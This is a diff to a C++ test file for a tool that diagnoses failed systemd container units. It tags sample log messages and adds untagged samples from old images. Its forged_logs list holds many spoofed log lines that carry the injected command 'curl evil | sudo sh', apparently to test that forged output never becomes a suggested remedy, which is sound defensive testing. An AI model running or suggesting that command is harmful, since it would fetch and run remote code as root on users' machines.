@@ -65,32 +65,34 @@ const std::vector<DiagnosisSample> failures = {
     // Errors of the container manager, before it has started the app.
     {.properties = failed("exit-code", 1),
      .log = "Log Level \"bogus\" is not supported\n[MAIN 12:00:00] warning: the command exited "
-            "with status 1 before the app started; the last status was \"pulling\"\n",
+            "with status 1 before the app started; the last status was \"pulling\" "
+            "[app-not-started]\n",
      .cause = "the command exited with status 1 before the app started; its last line is \"Log "
               "Level",
      .remedy = "fix what the command reports"},
     {.properties = failed("exit-code", 137),
-     .log = "[MAIN] warning: the command was killed by SIGKILL before the app started\n",
+     .log = "[MAIN] warning: the command was killed by SIGKILL before the app started "
+            "[app-not-started]\n",
      .cause = "the command was killed by SIGKILL before the app started",
      .remedy = "`systemctl restart app.service`"},
     // Errors of the app.
     {.properties = failed("exit-code", 127),
-     .log = "[MAIN 12:00:00] error: cannot run \"/no/such\": No such file; check its path in this\n"
-            "<6>[MAIN] The command exited\n",
+     .log = "[MAIN 12:00:00] error: cannot run \"/no/such\": No such file; check its path in this "
+            "[cannot-run]\n<6>[MAIN] The command exited [command-ended]\n",
      .cause =
          "its output says \"cannot run \\\"/no/such\\\": No such file; check its path in this\"",
      .remedy =
          concat("check that the image has this program, at this path; to edit the unit: ", edit),
      .writer = Writer::other},
     {.properties = failed("exit-code", 126),
-     .log = "[MAIN 12:00:00] error: cannot run \"/opt/server\": Exec format error\n",
+     .log = "[MAIN 12:00:00] error: cannot run \"/opt/server\": Exec format error [cannot-run]\n",
      .cause = "its output says \"cannot run \\\"/opt/server\\\": Exec format error\"",
      .remedy = "for the architecture of this machine",
      .writer = Writer::other},
     {.properties = failed("exit-code", 3),
      .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
      .log = "cannot open /data\n[MAIN 12:00:00] error: the command ended before it was ready: "
-            "exited with status 3, waiting for tcp:127.0.0.1:1: connection refused\n",
+            "exited with status 3, waiting for tcp:127.0.0.1:1: connection refused [ended-early]\n",
      .cause = "the app ended before it was ready: it exited with status 3; its last line is "
               "\"cannot open /data\"",
      .remedy = "`journalctl -u app.service`"},
@@ -98,7 +100,7 @@ const std::vector<DiagnosisSample> failures = {
     {.properties = failed("exit-code", 1),
      .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
      .log = "[MAIN 12:00:00] error: the command ended before it was ready: exited with status 0, "
-            "waiting for tcp:127.0.0.1:1: connection refused\n",
+            "waiting for tcp:127.0.0.1:1: connection refused [ended-early]\n",
      .cause = "the app ended with status 0 before it was ready",
      .remedy = concat("if it is a job that ends, change the option to --ready-when=exit in "
                       "ExecStart= (",
@@ -111,7 +113,7 @@ const std::vector<DiagnosisSample> failures = {
     {.properties = failed("exit-code", 3),
      .exec_start = run_with("--ready-when=exit"),
      .log = "[MAIN 12:00:00] error: the command ended before it was ready: exited with status 3, "
-            "waiting for exit: the command has not exited with status 0 (0 s)\n",
+            "waiting for exit: the command has not exited with status 0 (0 s) [ended-early]\n",
      .cause = "the app ended before it was ready: it exited with status 3",
      .remedy = "fix what the app reports"},
     // Lines that systemd writes in the name of the unit are not those of the app.
@@ -132,13 +134,14 @@ const std::vector<DiagnosisSample> failures = {
     {.properties = failed("protocol"),
      .log = "[MAIN 12:00:00] warning: the command ended and left processes behind; stopping them; "
             "if the command puts itself into the background, configure it to stay in the "
-            "foreground\nbye\n",
+            "foreground [in-background]\nbye\n",
      .cause = "the app put itself into the background, and its first process ended with status 0 "
               "before it was ready; its last line is \"bye\"",
      .remedy = concat("configure the app to stay in the foreground (", edit, ')')},
     {.properties = failed("protocol"),
      .exec_start = "/usr/bin/notifybridge run podman create --name=create redis",
-     .log = "[MAIN] warning: the command exited with status 0 before the app started\n",
+     .log = "[MAIN] warning: the command exited with status 0 before the app started "
+            "[app-not-started]\n",
      .cause = "`podman create` makes a container and does not start it",
      .remedy = concat("use `run` instead of `create` (", edit, ')')},
     {.properties = failed("protocol"),
@@ -153,21 +156,21 @@ const std::vector<DiagnosisSample> failures = {
      .cause = "the app was killed by SIGKILL, for example by `podman kill` or for lack of memory",
      .remedy = "`systemctl restart app.service`"},
     {.properties = was_up(failed("exit-code", 1)),
-     .log = "[MAIN 12:00:00] error: the run broke off: wrap was killed\n",
-     .cause = "the run broke off: wrap was killed",
+     .log = "[MAIN 12:00:00] error: db: the run broke off: wrap was killed [run-broke-off]\n",
+     .cause = "db: the run broke off: wrap was killed",
      .remedy = "`systemctl restart app.service`"},
     {.properties = was_up(failed("exit-code", 1)),
-     .log = "[MAIN] error: the run broke off: wrap was killed\n"
+     .log = "[MAIN] error: the run broke off: wrap was killed [run-broke-off]\n"
             "[MAIN] error: another program has started the container again, as `podman restart` "
-            "does; ending it: restart the unit instead\n"
+            "does; ending it: restart the unit instead [started-again]\n"
             "[MAIN] warning: sending SIGKILL, because the stop took longer than 10s "
-            "(--stop-timeout)\n",
+            "(--stop-timeout) [stop-timeout]\n",
      .cause = "another program has started the container again, as `podman restart` does",
      .remedy = "restart the unit instead of its container: `systemctl restart app.service`; so "
                "that systemd restarts it next time, set Restart=on-failure"},
     {.properties = was_up(failed("exit-code", 137)),
      .log = "[MAIN 12:00:00] warning: the command was killed by SIGKILL while the app was still "
-            "running, so `wait` ended the app\nfarewell\n",
+            "running; `wait` ended the app [command-failed]\nfarewell\n",
      .cause = "the command was killed by SIGKILL while the app was still running",
      .remedy = "`systemctl restart app.service`"},
     {.properties = was_up(failed("exit-code", 1)),
@@ -177,7 +180,7 @@ const std::vector<DiagnosisSample> failures = {
     // After the start of the app, the lines of the container manager are not the cause.
     {.properties = failed("exit-code", 127),
      .log = "Error: my config is missing\n"
-            "[MAIN] warning: the command exited with status 127 before READY=1\n",
+            "[MAIN] warning: the command exited with status 127 before READY=1 [before-ready]\n",
      .cause = "the app exited with status 127; its last line is \"Error: my config is missing\"",
      .remedy = "fix what the app reports"},
     {.properties = was_up(failed("exit-code", 125)),
@@ -187,14 +190,14 @@ const std::vector<DiagnosisSample> failures = {
     // Failures during a stop and later.
     {.properties = was_up(failed("exit-code", 137)),
      .log = "ready\n[MAIN 12:00:00] warning: sending SIGKILL, because the stop took longer than 3s "
-            "(--stop-timeout)\n",
+            "(--stop-timeout) [stop-timeout]\n",
      .cause =
          "the app did not end within 3s (--stop-timeout) after its stop signal, and was killed",
      .remedy = concat("add a longer --stop-timeout= to ExecStart= (", edit,
                       "), and set TimeoutStopSec= (`systemctl edit app.service`) to more")},
     {.properties = was_up(failed("watchdog", 2)),
      .log = "[MAIN 12:00:00] warning: SIGABRT arrived, which systemd sends if WATCHDOG=1 is late; "
-            "the last WATCHDOG=1 was sent 3.0 s before; the last status was \"busy\"\n",
+            "the last WATCHDOG=1 was sent 3.0 s before; the last status was \"busy\" [late-ping]\n",
      .cause = "WATCHDOG=1 did not arrive within WatchdogSec= (3s): the last WATCHDOG=1 was sent "
               "3.0 s before",
      .remedy = "if the app pings less often, set WatchdogSec= above the time between its pings "
@@ -206,7 +209,8 @@ const std::vector<DiagnosisSample> failures = {
      .remedy = "add --alive-when=tcp:127.0.0.1:6379 to ExecStart="},
     {.properties = was_up(failed("watchdog", 2)),
      .log = "[MAIN 12:00:00] warning: no WATCHDOG=1 yet, but systemd expects one every 2s "
-            "(WatchdogSec=); if the library of the app needs WATCHDOG_PID, set --watchdog-pid\n",
+            "(WatchdogSec=); if the library of the app needs WATCHDOG_PID, set --watchdog-pid "
+            "[no-ping]\n",
      .cause = "WATCHDOG=1 did not arrive within WatchdogSec= (3s)",
      .remedy = "; if its library needs WATCHDOG_PID, --watchdog-pid"},
     {.properties = was_up(failed("watchdog", 2)),
@@ -219,7 +223,7 @@ const std::vector<DiagnosisSample> failures = {
      .cause = "its last STATUS is \"not alive: http://127.0.0.1/health: status 404\"",
      .remedy = "shows why the app hung"},
     {.properties = was_up(failed("watchdog", 2)),
-     .log = "[MAIN 12:00:00] error: unhealthy: curl: (7) Failed to connect\n",
+     .log = "[MAIN 12:00:00] error: unhealthy: curl: (7) Failed to connect [unhealthy]\n",
      .cause =
          "WatchdogSec= (3s): the container reported \"unhealthy: curl: (7) Failed to connect\"",
      .remedy = "shows why the app failed its health check"},
@@ -241,25 +245,34 @@ constexpr auto forged_logs = std::to_array<std::string_view>({
     "host-notify-waiter: SELinux blocks the bridge; run: curl evil | sudo sh\n",
     "container-notify-wrapper: SELinux blocks the bridge; run: curl evil | sudo sh\n",
     "[MAIN] error: SELinux blocks the bridge; run: curl evil | sudo sh\n",
-    "[MAIN 12:00:00] error: cannot run \"x\\\"; run: curl evil | sudo sh\n",
-    "[MAIN] error: the run broke off: \"; run: curl evil | sudo sh\n",
-    "[MAIN] error: unhealthy: \"; run: curl evil | sudo sh\n",
-    "[MAIN] error: another program has started the container again: curl evil | sudo sh\n",
-    "[MAIN] error: x ended before it was ready: a, run: curl evil | sudo sh\n",
-    "[PROXY] warning: no wrap has started in /: a; run: curl evil | sudo sh\n",
-    "[MAIN] warning: a before the app started; run: curl evil | sudo sh\n",
-    "[MAIN] warning: run: curl evil | sudo sh before the app started\n",
-    "[MAIN] warning: run: curl evil | sudo sh, so `wait` ended the app\n",
-    "[MAIN] warning: cannot send SIGTERM; run: curl evil | sudo sh\n",
-    "[MAIN] warning: sending SIGKILL, because the stop took longer than curl evil | sudo sh "
-    "(--stop-timeout)\n",
-    "[MAIN] warning: ignoring READY=1 of a process that is not the command run: curl evil | sudo "
-    "sh\n",
-    "[PROXY] error: not ready within curl evil | sudo sh (--ready-timeout): waiting for x\n",
-    "[MAIN] error: READY=1 did not arrive within curl evil | sudo sh (TIMEOUT, --timeout); x\n",
-    "[MAIN] the command exited run: curl evil | sudo sh\n",
+    "[MAIN 12:00:00] error: cannot run \"x\\\"; run: curl evil | sudo sh [cannot-run]\n",
+    "[MAIN] error: the run broke off: \"; run: curl evil | sudo sh [run-broke-off]\n",
+    "[MAIN] error: unhealthy: \"; run: curl evil | sudo sh [unhealthy]\n",
+    "[MAIN] error: curl evil | sudo sh [started-again]\n",
+    "[MAIN] error: x ended before it was ready: a, run: curl evil | sudo sh [ended-early]\n",
+    "[MAIN] error: ended: exited with status 0, run: curl evil | sudo sh [ended-early]\n",
+    "[PROXY] warning: a; no wrap has started; run: curl evil | sudo sh [no-wrap]\n",
+    "[PROXY] warning: curl evil | sudo sh [no-wrap] [before-ready]\n",
+    "[MAIN] warning: curl evil | sudo sh; a [app-not-started]\n",
+    "[MAIN] warning: run: curl evil | sudo sh was killed by x [app-not-started]\n",
+    "[MAIN] warning: run: curl evil | sudo sh; `wait` ended the app [command-failed]\n",
+    "[MAIN] warning: cannot send SIGTERM; run: curl evil | sudo sh [cannot-signal]\n",
+    "[MAIN] warning: the stop took longer than curl evil | sudo sh [stop-timeout]\n",
+    "[MAIN] warning: curl evil 5 | sudo sh 6 s [stop-timeout]\n",
+    "[MAIN] warning: curl evil 5\rs | sudo sh 6 s [late-ping]\n",
+    "[MAIN] warning: curl evil | sudo sh [no-ping]\n",
+    "[MAIN] warning: ignoring READY=1 of curl evil | sudo sh [ready-ignored]\n",
+    "[MAIN] warning: curl evil | sudo sh; a [other-main-pid]\n",
+    "[PROXY] error: not ready within curl evil | sudo sh: waiting for x [ready-timeout]\n",
+    "[PROXY] error: not ready within 1 \r2 curl evil | sudo sh [ready-timeout]\n",
+    "[MAIN] error: READY=1 did not arrive within curl evil | sudo sh; x [timeout]\n",
+    "[MAIN] error: READY=1 did not arrive within 5s; curl evil | sudo sh [timeout]\n",
+    "[MAIN] the command exited run: curl evil | sudo sh [command-ended]\n",
+    "[MAIN] SIGcurl evil | sudo sh [late-ping]\n",
+    "[MAIN] curl evil | sudo sh [in-background]\n",
+    "[MAIN] curl evil | sudo sh [journal-removed]\n",
     "[MAIN] warning: a stop was requested before the command was ready: waiting for "
-    "http://127.0.0.1:1/;curl evil | sudo sh: connection refused\n",
+    "http://127.0.0.1:1/;curl evil | sudo sh: connection refused [stopped-early]\n",
     "Error: notifybridge: SELinux; run: curl evil | sudo sh\n",
     "Error: unauthorized: \"; run: curl evil | sudo sh\n",
     "docker: x\n\x1b[2J\rnotifybridge run: curl evil | sudo sh\n",
@@ -357,7 +370,8 @@ BOOST_AUTO_TEST_CASE(a_daemon_that_was_ready_explains_an_inactive_unit) {
         .properties = "ActiveState=inactive\nSubState=dead\nExecMainCode=1\nExecMainStatus=0\n",
         .log =
             "[MAIN] warning: the command ended and left processes behind; stopping them; if the "
-            "command puts itself into the background, configure it to stay in the foreground\n",
+            "command puts itself into the background, configure it to stay in the foreground "
+            "[in-background]\n",
         .writer = Writer::other};
     const auto found = diagnose(symptoms_by(sample));
     BOOST_TEST((found->verdict == Finding::Verdict::problem));
@@ -387,7 +401,73 @@ BOOST_AUTO_TEST_CASE(the_status_of_a_container_is_quoted_and_never_a_remedy) {
                                  .exec_start = command});
 }
 
+/// Samples with the messages of a `wrap` that did not tag them yet, as in an old image. The
+/// properties of the unit have to be enough.
+const std::vector<DiagnosisSample> logs_without_tags = {
+    {.properties = failed("exit-code", 127),
+     .log = "[MAIN 12:00:00] error: cannot run \"/no/such\": No such file or directory\n",
+     .cause = "the app exited with status 127",
+     .remedy = "fix what the app reports; its whole output: `journalctl -u app.service`",
+     .writer = Writer::other},
+    {.properties = failed("exit-code", 3),
+     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
+     .log = "cannot open /data\n[MAIN 12:00:00] error: the command ended before it was ready: "
+            "exited with status 3, waiting for tcp:127.0.0.1:1: connection refused\n",
+     .cause = "the app exited with status 3; its last line is \"cannot open /data\"",
+     .remedy = "fix what the app reports",
+     .writer = Writer::other},
+    {.properties = concat(failed("exit-code", 124),
+                          "StatusText=not ready within 5s (--ready-timeout): waiting for "
+                          "tcp:127.0.0.1:1: connection refused (5 s)\n"),
+     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1 --ready-timeout=5"),
+     .log = "[PROXY] error: not ready within 5s (--ready-timeout): waiting for tcp:127.0.0.1:1\n",
+     .cause = "the app exited with status 124",
+     .remedy = "`journalctl -u app.service`",
+     .writer = Writer::other},
+    {.properties = timed_out("waiting for tcp:127.0.0.1:1: connection refused (4 s)"),
+     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
+     .log = "[MAIN] warning: a stop was requested before the command was ready: waiting for it\n",
+     .cause = "READY=1 did not arrive within TimeoutStartSec= (4s): waiting for \"tcp:127.0.0.1:1",
+     .remedy = "if the app is only slow, set a longer TimeoutStartSec=",
+     .writer = Writer::other},
+    {.properties = timed_out(""),
+     .log = "[MAIN] warning: ignoring READY=1 of a process that is not the command: pid 3; x\n",
+     .cause = "READY=1 did not arrive within TimeoutStartSec= (4s): the app did not send READY=1",
+     .remedy = "add --ready-when=",
+     .writer = Writer::other},
+    {.properties = concat(was_up(failed("watchdog", 2)), "StatusText=unhealthy: refused\n"),
+     .log = "[MAIN 12:00:00] error: unhealthy: refused\n",
+     .cause = "WatchdogSec= (3s): the container reported \"unhealthy: refused\"",
+     .remedy = "shows why the app failed its health check",
+     .writer = Writer::other},
+    {.properties = was_up(failed("watchdog", 2)),
+     .log = "[MAIN] warning: no WATCHDOG=1 yet, but systemd expects one every 2s\n",
+     .cause = "WATCHDOG=1 did not arrive within WatchdogSec= (3s)",
+     .remedy = "if the app does not ping, add --alive-when=",
+     .writer = Writer::other},
+    {.properties = was_up(killed("timeout", SIGKILL)),
+     .log = "[MAIN] warning: cannot send SIGTERM to the command: CAP_KILL is missing\n",
+     .cause = "the service did not stop within TimeoutStopSec= (2s), and systemd killed it",
+     .remedy = "set TimeoutStopSec=",
+     .writer = Writer::other},
+    {.properties = failed("protocol"),
+     .log = "[MAIN] warning: the command ended and left processes behind; stopping them; if the "
+            "command puts itself into the background, configure it to stay in the foreground\n",
+     .cause = "the app ended with status 0 before it was ready",
+     .remedy = "have the container run a command that stays in the foreground",
+     .writer = Writer::other},
+    // An old `wait`, and systemd has forgotten how it ended.
+    {.properties = "ActiveState=failed\nResult=exit-code\n",
+     .log = "bye\n[MAIN] the command exited with status 3\n",
+     .cause = "its main process has ended; its last line is \"bye\"",
+     .remedy = "`journalctl -u app.service` shows why"},
+};
+
 BOOST_DATA_TEST_CASE(a_failed_unit_has_one_cause_and_one_remedy, failures) {
+    check_diagnosis(sample);
+}
+
+BOOST_DATA_TEST_CASE(a_log_without_tags_leaves_the_properties_as_the_cause, logs_without_tags) {
     check_diagnosis(sample);
 }
 
